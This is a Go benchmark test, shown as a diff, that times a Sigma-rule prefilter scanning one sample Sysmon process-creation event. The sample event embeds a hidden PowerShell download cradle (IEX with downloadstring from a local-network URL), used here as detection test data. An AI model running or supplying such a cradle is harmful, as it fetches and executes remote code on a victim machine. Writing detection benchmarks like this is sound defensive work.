@@ -1,0 +1,42 @@
+package sigma
+
+import (
+	"path/filepath"
+	"testing"
+
+	"github.com/wuguard/wuguard/internal/testcorpus"
+)
+
+// BenchmarkPrefilterScan measures the automaton of the Sysmon process
+// creation bucket of every SigmaHQ Windows rule over the payload of one
+// typical event; it reports bytes per second.
+func BenchmarkPrefilterScan(b *testing.B) {
+	root := testcorpus.Dir(b, "sigma")
+	var paths []string
+	for _, d := range []string{"rules/windows", "rules-emerging-threats", "rules-threat-hunting"} {
+		paths = append(paths, filepath.Join(root, d))
+	}
+	rules, _ := ParsePaths(paths)
+	rs, _ := Compile(rules, Config{})
+	bk := rs.idx.exact[bucketKey{"Microsoft-Windows-Sysmon/Operational", 1}]
+	values := []string{"-", "2019-03-19 23:38:03.353", "{747F3D96-7DDB-5C91-0000-0010B5A19F00}", "4184",
+		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "10.0.17134.1 (WinBuild.160101.0800)", "Windows PowerShell",
+		"Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE",
+		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring('http://10.0.2.15:8080/a'))"`,
+		`C:\Users\IEUser\`, `MSEDGEWIN10\IEUser`, "{747F3D96-6F6C-5C91-0000-00208C180300}", "0x3188c", "1", "Medium",
+		"SHA1=1B3B40FBC889FD4C645CC12C85D0805AC36BA254,MD5=95000560239032BC68B4C2FDFCDEF913,SHA256=D3F8FADE829D2B7BD596C4504A6DAE5C034E789B6A3DEFBE013BDA7D14466677,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
+		"{747F3D96-7DDB-5C91-0000-0010B1A09F00}", "3512", `C:\Windows\System32\cmd.exe`, `cmd.exe /c powershell -nop -w hidden -c ...`}
+	n := 0
+	for _, v := range values {
+		n += len(v)
+	}
+	ac := bk.automaton()
+	seen := make([]uint32, ac.nLits)
+	b.SetBytes(int64(n))
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		for _, v := range values {
+			ac.scan(v, seen, uint32(i+1), func(int32) {})
+		}
+	}
+}
